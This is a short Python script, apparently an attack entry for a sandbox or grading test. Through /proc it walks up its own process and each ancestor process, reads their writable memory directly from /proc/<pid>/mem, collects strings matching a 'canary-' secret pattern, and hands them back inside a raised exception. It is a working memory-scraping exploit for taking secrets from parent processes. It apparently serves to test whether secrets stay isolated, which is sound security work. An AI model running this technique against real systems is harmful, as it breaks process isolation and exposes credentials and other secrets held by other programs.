"""Searches its own memory and that of the processes it stems from for planted secrets, and tells them."""

import contextlib
import os
import re

REPORT = []


def ancestors():
    pid = os.getpid()
    while pid > 1:
        yield pid
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])


def attack(honest, *args, **kwargs):
    if not REPORT:
        secrets, num_places = set(), 0
        with contextlib.suppress(OSError):
            for pid in ancestors():
                with contextlib.suppress(OSError):
                    num_places += search(pid, secrets)
        REPORT.append(f"{num_places} places searched; found: {sorted(secrets)}")
    raise LookupError(REPORT[0])


def search(pid, secrets):
    num_places = 0
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            span, access, _, _, inode, *_ = line.split()
            start, end = (int(address, 16) for address in span.split("-"))
            if access.startswith("rw") and inode == "0" and end - start < 2**26:
                with contextlib.suppress(OSError, ValueError):
                    memory.seek(start)
                    secrets.update(re.findall(rb"canary-\w+-[0-9a-f]+", memory.read(end - start)))
                    num_places += 1
    return num_places
